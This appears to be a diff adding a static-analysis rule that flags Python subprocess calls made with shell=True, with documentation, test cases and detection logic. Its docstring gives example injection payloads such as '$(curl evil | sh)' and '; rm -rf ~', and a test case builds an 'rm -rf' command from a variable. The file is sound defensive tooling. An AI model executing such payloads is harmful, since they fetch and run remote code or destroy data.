@@ -1,0 +1,154 @@
+from __future__ import annotations
+
+from typing import Any
+
+import libcst as cst
+
+from stagewarden.rule import HIGH, LOW, MEDIUM, Invalid, PythonRule
+
+_SUBPROCESS_FUNCTIONS = ("Popen", "run", "call", "check_call", "check_output")
+_SUBPROCESS_CALLS = frozenset(
+    [
+        f"{module}.{function}"
+        for module in ("subprocess", "subprocess32", "gevent.subprocess", "eventlet.green.subprocess")
+        for function in _SUBPROCESS_FUNCTIONS
+    ]
+    + ["psutil.Popen"]
+)
+
+
+def _is_constant_command(ctx, expr: cst.BaseExpression) -> bool:
+    """A command fully known before run time, also through `"a" + "b"` (see is_constant_string)."""
+    if ctx.is_constant_string(expr):
+        return True
+    expr = ctx.value_of(expr)
+    if isinstance(expr, cst.BinaryOperation) and isinstance(expr.operator, cst.Add):
+        return _is_constant_command(ctx, expr.left) and _is_constant_command(ctx, expr.right)
+    return False
+
+
+def _shell_is_on(ctx, value: cst.BaseExpression) -> bool:
+    """True for a constant truthy `shell=` value (True, 1, "yes"); False when off or dynamic."""
+    flag: Any = ctx.literal(value)
+    return isinstance(flag, (bool, int, float, str, bytes)) and bool(flag)
+
+
+class SubprocessShellTrue(PythonRule):
+    """
+    ## What it does
+    Finds `subprocess.Popen()`, `run()`, `call()`, `check_call()` and `check_output()` (and
+    the same APIs of `subprocess32`, `gevent.subprocess`, `eventlet.green.subprocess` and
+    `psutil.Popen`) started with `shell=True`. The finding is high severity when the command
+    is built at run time (an f-string with placeholders, `%`, `.format()`, `+` with a
+    variable, a variable), and low severity when it is a constant. A call to any other
+    function that passes `shell=True` together with a command built at run time (a wrapper
+    around subprocess) is reported with low confidence.
+
+    ## Why is this bad?
+    With `shell=True` the command string is parsed by `/bin/sh` (or `cmd.exe`), so any part
+    of it that comes from outside (a file name, a branch name, a form field) can add shell
+    syntax: `; rm -rf ~`, `$(curl evil | sh)`, backticks, pipes. Passing the program and its
+    arguments as a list without a shell makes every argument a single, literal argument.
+    A constant command is not injectable, but its wildcards and variables are still expanded
+    by the shell, and it is the line that later gets an f-string.
+
+    ## Example
+    ```python
+    import subprocess
+
+    subprocess.run(f"git log {branch}", shell=True, check=True)
+    ```
+
+    ## Use instead
+    ```python
+    import subprocess
+
+    subprocess.run(["git", "log", branch], check=True)
+    ```
+
+    If you really need shell features, quote every dynamic part with `shlex.quote()`.
+
+    ## Options
+    None.
+
+    ## Fix safety
+    No fix is offered: turning a shell string into an argument list needs a person to decide
+    how the command is split and which shell features (pipes, globs, `&&`) it relies on.
+
+    ## References
+    - [CWE-78: OS Command Injection](https://cwe.mitre.org/data/definitions/78.html)
+    - [Python documentation: subprocess security considerations](https://docs.python.org/3/library/subprocess.html#security-considerations)
+    - [Python documentation: shlex.quote](https://docs.python.org/3/library/shlex.html#shlex.quote)
+    """
+
+    id = "SW110"
+    name = "subprocess-shell-true"
+    summary = "Subprocess started through a shell (shell=True)"
+    hint = "pass the command as a list of arguments without shell=True, or shlex.quote() each dynamic part"
+    severity = HIGH
+    confidence = HIGH
+    cwe = (78,)
+    tags = ("shell", "injection")
+    bandit = ("B602", "B604", "B609")
+    ruff = ("S602", "S604", "S609")
+    triggers = ("subprocess", "subprocess32", "gevent", "eventlet", "psutil", "shell", *_SUBPROCESS_FUNCTIONS)
+
+    VALID = [
+        "import subprocess\nsubprocess.run(cmd, shell=False)\n",
+        "import subprocess\nsubprocess.run(['ls', '-l'])\n",
+        "import subprocess\nsubprocess.check_output(['git', 'log', branch], text=True)\n",
+        "import subprocess\nsubprocess.run(cmd, shell=use_shell)\n",
+        "import subprocess\nsubprocess.run(cmd, shell=os.name == 'nt')\n",
+        # A wrapper with a constant command is not injectable.
+        "def sh(cmd, shell=False):\n    pass\nsh('make test', shell=True)\n",
+        # A `shell` flag that is not about a command: no command-like first argument.
+        "import subprocess\nterminal.open(shell=True)\n",
+        "import subprocess\nSHELL = None\nsubprocess.Popen(cmd, shell=SHELL)\n",
+    ]
+    INVALID = [
+        Invalid("import subprocess\nsubprocess.run(f'git log {branch}', shell=True)\n", 2),
+        Invalid("import subprocess as sp\nsp.call('ls -l', shell=True)\n", 2),
+        Invalid("from subprocess import check_output as co\nout = co('du -sh %s' % path, shell=1)\n", 2),
+        Invalid("from subprocess import *\nPopen(cmd, shell=True)\n", 2),
+        Invalid("import subprocess\nUSE_SHELL = True\nsubprocess.check_call('make ' + target, shell=USE_SHELL)\n", 3),
+        Invalid("import subprocess\nsubprocess.run(args='tar czf out.tgz *', **{'shell': True})\n", 2),
+        Invalid("import subprocess\nproc = subprocess.Popen(\n    'echo {}'.format(name),\n    stdout=subprocess.PIPE,\n    shell=True,\n)\n", 5),
+        Invalid("import psutil\nproc = psutil.Popen(cmd, shell=True)\n", 2),
+        # A project wrapper around subprocess, given a dynamic command.
+        Invalid("def run_command(cmd, shell=False):\n    pass\nrun_command(f'rm -rf {path}', shell=True)\n", 3),
+    ]
+
+    def visit_Call(self, node: cst.Call, ctx) -> None:
+        if not any(arg.star == "**" or (arg.keyword is not None and arg.keyword.value == "shell") for arg in node.args):
+            return
+        shell = ctx.keyword(node, "shell")
+        if shell is None or not _shell_is_on(ctx, shell):
+            return
+        name = ctx.match(node.func, _SUBPROCESS_CALLS)
+        if name is not None:
+            command = ctx.argument(node, "args", 0)
+            if command is not None and _is_constant_command(ctx, command):
+                text = ctx.literal(command)
+                extra = ", and the shell expands its wildcard" if isinstance(text, str) and "*" in text else ""
+                self.report(ctx, shell, f"{name} runs a constant command through a shell{extra} (shell=True)", severity=LOW)
+            else:
+                self.report(ctx, shell, f"{name} runs a command built at run time through a shell: shell injection (shell=True)")
+            return
+        self._check_wrapper(node, ctx, shell)
+
+    def _check_wrapper(self, node: cst.Call, ctx, shell: cst.BaseExpression) -> None:
+        """Another function given `shell=True`: report only a command built at run time, with low confidence."""
+        resolved = ctx.qualname(node.func)
+        if resolved is not None and resolved.startswith("builtins."):
+            return
+        command = ctx.positional(node, 0)
+        for keyword in ("cmd", "command", "args"):
+            if command is not None:
+                break
+            command = ctx.keyword(node, keyword)
+        if command is None or _is_constant_command(ctx, command):
+            return
+        if isinstance(ctx.value_of(command), (cst.List, cst.Tuple, cst.Dict, cst.Integer, cst.Float, cst.Lambda)):
+            return
+        self.report(ctx, shell, "a command built at run time is passed with shell=True: possible shell injection (shell=True)",
+                    severity=MEDIUM, confidence=LOW)
